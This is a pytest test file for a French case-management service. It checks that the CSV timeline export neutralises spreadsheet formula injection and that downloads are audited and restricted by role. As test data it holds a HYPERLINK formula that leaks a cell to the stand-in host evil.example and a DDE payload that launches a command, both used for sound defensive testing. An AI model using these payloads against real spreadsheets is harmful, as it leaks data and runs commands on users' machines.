"""CSV exports neutralise formula injection: the case timeline as a spreadsheet."""
from __future__ import annotations

import csv
import io
import json

import pytest
import sqlalchemy as sa

from service.extensions import db
from service.models import AuditEvent
from service.routes.exports import FORMULA_START, TIMELINE_COLUMNS, csv_cell
from service.usecases.procedures import start_procedure
from service.usecases.tasks import complete_task
from tests.factories import World, make_case
from tests.helpers import ready_task
from tests.ip_samples import sample

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")'


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), (HYPERLINK, "'" + HYPERLINK), ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
    ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("Bonjour", "Bonjour"), ("", ""), (" =1", " =1"), ("a=1", "a=1"), (12, "12"), (-3, "'-3"), (None, ""),
    ("« Il a dit : =ça »", "« Il a dit : =ça »"),
])
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(value, shown):
    assert csv_cell(value) == shown


@pytest.fixture
def case_with_hostile_text(app):
    world = World()
    case = make_case(world.ass)
    procedure_id = start_procedure(world.actor("ass"), case.id, "information_preoccupante").procedure_id
    task = ready_task(world.actor("ass"), "recueillir_faits", procedure_id)
    complete_task(world.actor("ass"), task.id, sample(
        "recueillir_faits", faits=HYPERLINK, paroles_eleve="@SUM(1+1)*cmd|' /C calc'!A0",
        contexte="-2+3 au bureau de l'infirmière"))
    db.session.commit()
    return world, case.id


def _rows(response) -> list[list[str]]:
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")  # the BOM: Excel reads UTF-8 and shows the accents
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def test_the_timeline_as_csv_neutralises_formulas(client, auth, case_with_hostile_text):
    world, case_id = case_with_hostile_text
    auth.login(world.auditeur.username)
    response = client.get(f"/cases/{case_id}/timeline.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and response.mimetype_params.get("charset") == "utf-8"
    assert response.headers["Content-Disposition"] == f'attachment; filename="chronologie-dossier-{case_id}.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    rows = _rows(response)
    assert tuple(rows[0]) == TIMELINE_COLUMNS == ("N°", "Date (heure de Paris)", "Qui", "Rôle", "Événement",
                                                  "Étape", "Champ", "Valeur", "Empreinte")
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)], "a cell starts like a formula"
    values = {row[6]: row[7] for row in rows[1:] if row[6]}
    assert "'" + HYPERLINK in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'-2+3 au bureau de l'infirmière" in values.values()
    assert {"Dossier ouvert", "Procédure démarrée", "Étape complétée"} <= {row[4] for row in rows[1:]}


def test_the_download_is_audited_and_follows_the_timeline_rights(client, auth, case_with_hostile_text):
    world, case_id = case_with_hostile_text
    auth.login(world.ctsd.username)
    assert client.get(f"/cases/{case_id}/timeline.csv").status_code == 200
    last = db.session.scalars(sa.select(AuditEvent).order_by(AuditEvent.seq.desc()).limit(1)).one()
    assert (last.event_type, last.case_id, json.loads(last.payload)) == ("timeline_viewed", case_id, {"format": "csv"})
    db.session.rollback()
    for user, status in [(world.direction, 403), (world.admin, 403), (world.ass2, 404), (world.ctsd2, 404)]:
        auth.logout()
        auth.login(user.username)
        response = client.get(f"/cases/{case_id}/timeline.csv")
        assert response.status_code == status, user.username
        assert response.mimetype != "text/csv"
    auth.logout()
    assert client.get(f"/cases/{case_id}/timeline.csv").status_code == 302  # to the login page


def test_the_timeline_screen_links_to_its_csv_with_its_filters(client, auth, case_with_hostile_text):
    world, case_id = case_with_hostile_text
    auth.login(world.auditeur.username)
    query = f"utilisateur={world.ass.username}&du=2020-01-01"
    page = client.get(f"/cases/{case_id}/timeline?{query}").get_data(as_text=True)
    assert f'href="/cases/{case_id}/timeline.csv?{query.replace("&", "&amp;")}"' in page
    assert "fr-link--download" in page
    filtered = _rows(client.get(f"/cases/{case_id}/timeline.csv?{query}"))
    assert filtered[1:] and {row[2] for row in filtered[1:]} == {world.ass.username}
